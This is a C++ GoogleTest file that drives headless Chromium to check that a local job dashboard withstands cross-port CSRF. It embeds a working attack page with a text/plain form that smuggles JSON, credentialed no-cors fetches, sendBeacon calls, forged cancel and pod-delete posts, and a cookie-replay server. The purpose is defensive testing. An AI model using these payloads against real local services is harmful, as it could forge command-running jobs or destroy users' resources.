// A page on another loopback port attacks `burst dashboard` in headless Chromium while a job runs
// (issue 29): the user opened the dashboard's link, then a page served from another port of
// 127.0.0.1 (a pod's web UI through `burst ssh -L`, a notebook, a dev server). Browsers send a
// host's cookies to every port, and 127.0.0.1:A and 127.0.0.1:B are the same site, so the page
// tries what a browser lets any page do without asking: an auto-submitted `enctype=text/plain`
// form posting a job to /v1/jobs, `fetch` with `no-cors` and `credentials: 'include'`,
// `navigator.sendBeacon`, a cancel of the running job, and the pod-delete form without its token;
// then the same again under the session's own path prefix, as if the dashboard's address had
// leaked. Its own server records every Cookie header the browser sends it and replays each to
// /v1/jobs and to the dashboard. No job is created, none cancelled, no pod deleted, and the
// attacker's server never receives the session's cookie.
#include <gtest/gtest.h>
#include <httplib.h>

#include <filesystem>
#include <map>
#include <mutex>
#include <nlohmann/json.hpp>
#include <thread>

#include "dashboard/burstd_process.h"
#include "dashboard/chromium_cdp.h"

namespace burst::testing {
namespace {

using nlohmann::json;

// The attacker's page: every request is fired at the dashboard's port (and its session prefix, as
// if leaked), then it waits for each to land. %D% is the dashboard's origin, %P% its session
// prefix, %JOB% and %POD% the running job and its pod, %MARKER% the file the forged job would
// create.
constexpr const char* kAttackPage = R"HTML(<!doctype html><html><body><script>
const D = "%D%", P = "%P%";
const body = JSON.stringify({spec: "version: 1\nname: pwned\nresources: {providers: [local]}\nrun: touch %MARKER%\n"});
let n = 0;
// A form into a frame of its own; resolves once the frame left this origin (the answer came).
function post(action, enctype, fields) {
  const name = "f" + (n++);
  const frame = document.createElement("iframe");
  frame.name = name;
  document.body.appendChild(frame);
  const form = document.createElement("form");
  form.method = "POST";
  form.action = action;
  form.enctype = enctype;
  form.target = name;
  for (const [k, v] of fields) {
    const input = document.createElement("input");
    input.type = "hidden";
    input.name = k;
    input.value = v;
    form.appendChild(input);
  }
  document.body.appendChild(form);
  form.submit();
  return new Promise(resolve => {
    const t0 = Date.now();
    (function look() {
      let away = false;
      try { away = frame.contentWindow.location.href !== "about:blank"; } catch (e) { away = true; }
      if (away || Date.now() - t0 > 5000) return resolve();
      setTimeout(look, 50);
    })();
  });
}
async function attack() {
  const tries = [];
  for (const base of [D, D + P]) {
    // {"spec": "...", "x": "="}: a text/plain form's name=value is this JSON.
    tries.push(post(base + "/v1/jobs", "text/plain", [[body.slice(0, -1) + ',"x":"', '"}']]));
    tries.push(fetch(base + "/v1/jobs", {method: "POST", mode: "no-cors", credentials: "include",
                                         body}).catch(() => 0));
    navigator.sendBeacon(base + "/v1/jobs", new Blob([body], {type: "text/plain"}));
    tries.push(fetch(base + "/v1/jobs/%JOB%/cancel", {method: "POST", mode: "no-cors",
                                                       credentials: "include"}).catch(() => 0));
    tries.push(post(base + "/dashboard/pods/delete", "application/x-www-form-urlencoded",
                    [["provider", "local"], ["pod", "%POD%"]]));
    tries.push(post(base + "/dashboard/jobs/cancel", "application/x-www-form-urlencoded",
                    [["job", "%JOB%"]]));
  }
  // What the browser sends this page's own server (a request of the page's own origin).
  tries.push(fetch("/collect", {credentials: "include"}).catch(() => 0));
  await Promise.all(tries);
  await new Promise(r => setTimeout(r, 500));  // the beacons
  return "done";
}
</script></body></html>
)HTML";

std::string attack_fill(std::string text, const std::map<std::string, std::string>& values) {
  for (const auto& [key, value] : values)
    for (size_t at; (at = text.find(key)) != std::string::npos;)
      text.replace(at, key.size(), value);
  return text;
}

// The status code of a raw HTTP answer ("" when none).
std::string attack_status(const std::string& answer) {
  return answer.size() >= 12 ? answer.substr(9, 3) : "";
}

TEST(DashboardChromium, APageOnAnotherLoopbackPortCreatesCancelsAndDeletesNothing) {
  const std::string chromium = ChromiumCdp::find();
  if (chromium.empty())
    GTEST_SKIP() << "chromium is not installed (scripts/setup installs it on Debian): the "
                    "dashboard was not attacked in a browser";
  BurstHome home;
  BurstdProcess d(home, "max_concurrent_jobs: 2\n");
  ASSERT_TRUE(d.ready()) << d.log();
  BurstProcess proxy(home, {"dashboard"});
  ASSERT_TRUE(proxy.wait_for_stdout("dashboard: http://127.0.0.1:", 20)) << proxy.err();
  std::string url = proxy.out().substr(proxy.out().find("http://"));
  url = url.substr(0, url.find('\n'));
  const std::string origin = url.substr(0, url.find('/', 7));
  const int port = std::atoi(origin.c_str() + origin.rfind(':') + 1);

  // The user's running job, with its pod.
  HttpReply made = unix_http(d.socket(), "POST", "/v1/jobs",
                             json{{"spec",
                                   "version: 1\nname: victim\nresources: {providers: [local]}\n"
                                   "run: |\n  echo holding\n"
                                   "  sleep 60\n"},
                                  {"path", home.work() + "/victim.yaml"}}
                                 .dump());
  ASSERT_EQ(made.status, 201) << made.body;
  const std::string job = json::parse(made.body).value("id", "");
  std::string pod;
  ASSERT_TRUE(wait_until(60, [&] {
    json pods = json::parse(unix_http(d.socket(), "GET", "/v1/pods").body, nullptr, false);
    for (const auto& p : pods)
      if (p.value("job_id", "") == job && p.value("state", "") == "alive")
        pod = p.value("pod", "").empty() ? p.value("name", "") : p.value("pod", "");
    return !pod.empty();
  })) << d.log();

  // The user opens the dashboard's link.
  ChromiumCdp browser(chromium, home.root() + "/chromium-profile");
  ASSERT_TRUE(browser.ok()) << browser.why();
  ASSERT_TRUE(browser.navigate(url));
  ASSERT_TRUE(browser.wait_for("document.body.innerText.includes('" + job + "')", 20))
      << browser.eval("document.body.innerText").dump();
  const json path = browser.eval("location.pathname");
  ASSERT_TRUE(path.is_string());
  const std::string prefix = path.get<std::string>().substr(0, path.get<std::string>().rfind('/'));

  // The attacker's server on another loopback port.
  const std::string marker = home.work() + "/PWNED";
  std::mutex mu;
  std::vector<std::string> cookies;  // every Cookie header it received
  int requests = 0;
  httplib::Server evil;
  auto record = [&](const httplib::Request& req, httplib::Response& res) {
    std::lock_guard<std::mutex> lock(mu);
    ++requests;
    if (req.has_header("Cookie")) cookies.push_back(req.get_header_value("Cookie"));
    res.set_content(attack_fill(kAttackPage, {{"%D%", origin},
                                              {"%P%", prefix},
                                              {"%JOB%", job},
                                              {"%POD%", pod},
                                              {"%MARKER%", marker}}),
                    "text/html");
  };
  evil.Get(".*", record);
  evil.Post(".*", record);
  const int evil_port = evil.bind_to_any_port("127.0.0.1");
  ASSERT_GT(evil_port, 0);
  std::thread serving([&] { evil.listen_after_bind(); });
  ASSERT_TRUE(wait_until(5, [&] { return evil.is_running(); }));

  const auto t0 = std::chrono::steady_clock::now();
  ASSERT_TRUE(browser.navigate("http://127.0.0.1:" + std::to_string(evil_port) + "/"));
  EXPECT_EQ(browser.eval("attack()", 30), json("done"));
  std::cout << "the page's attacks took "
            << std::chrono::duration_cast<std::chrono::milliseconds>(
                   std::chrono::steady_clock::now() - t0)
                   .count()
            << " ms\n";

  // Its server replays whatever cookie it got, with every header a browser would have sent.
  std::vector<std::string> got;
  {
    std::lock_guard<std::mutex> lock(mu);
    got = cookies;
    EXPECT_GE(requests, 2) << "the page and its own fetch reached the attacker's server";
  }
  EXPECT_TRUE(got.empty()) << "the browser sent the attacker's server a cookie: " << got.front();
  for (const std::string& c : got) {
    const std::string host = "Host: 127.0.0.1:" + std::to_string(port) + "\r\nOrigin: " + origin +
                             "\r\nCookie: " + c + "\r\n";
    const std::string spec = json{
        {"spec", "version: 1\nname: pwned\nresources: {providers: [local]}\nrun: touch " + marker +
                     "\n"}}.dump();
    for (const std::string& at : {std::string(), prefix}) {
      const std::string submit =
          tcp_request(port, "POST " + at + "/v1/jobs HTTP/1.1\r\n" + host +
                                "Content-Type: application/json\r\nContent-Length: " +
                                std::to_string(spec.size()) + "\r\n\r\n" + spec);
      EXPECT_NE(attack_status(submit).substr(0, 1), "2") << submit;
      const std::string pods =
          tcp_request(port, "GET " + at + "/dashboard/pods HTTP/1.1\r\n" + host + "\r\n");
      EXPECT_EQ(attack_status(pods), "401") << pods;
    }
  }
  evil.stop();
  serving.join();

  // Nothing happened: one job (the user's), still running, its pod alive, no marker.
  json jobs = json::parse(unix_http(d.socket(), "GET", "/v1/jobs").body, nullptr, false);
  ASSERT_TRUE(jobs.is_array()) << jobs.dump();
  EXPECT_EQ(jobs.size(), 1u) << "no job was created: " << jobs.dump(1);
  EXPECT_EQ(json::parse(unix_http(d.socket(), "GET", "/v1/jobs/" + job).body).value("state", ""),
            "running")
      << "the job was not cancelled";
  const std::string pods = unix_http(d.socket(), "GET", "/v1/pods").body;
  EXPECT_NE(pods.find(pod), std::string::npos) << "the pod was not deleted: " << pods;
  EXPECT_FALSE(std::filesystem::exists(marker));

  // The user's own session still works: its delete form needs the page's token.
  ASSERT_TRUE(browser.navigate(origin + prefix + "/dashboard/pods"));
  ASSERT_TRUE(browser.eval_and_wait_load("document.querySelector('button.delete').click()"));
  EXPECT_EQ(browser.eval("document.getElementById('notice').textContent.includes('cancelled')"),
            json(true))
      << browser.eval("document.body.innerText").dump();
  EXPECT_TRUE(wait_until(30, [&] {
    return unix_http(d.socket(), "GET", "/v1/pods").body.find(job) == std::string::npos;
  })) << d.log();
}

}  // namespace
}  // namespace burst::testing
